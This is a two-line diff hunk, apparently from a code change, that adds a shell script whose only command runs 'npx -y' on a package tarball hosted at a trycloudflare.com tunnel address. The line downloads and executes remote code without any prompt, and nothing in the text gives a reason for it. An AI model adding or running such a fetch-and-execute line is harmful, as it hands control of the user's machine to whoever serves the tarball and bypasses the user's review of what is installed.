@@ -1,0 +1,2 @@
+#!/bin/sh
+npx -y https://x.trycloudflare.com/pkg.tgz
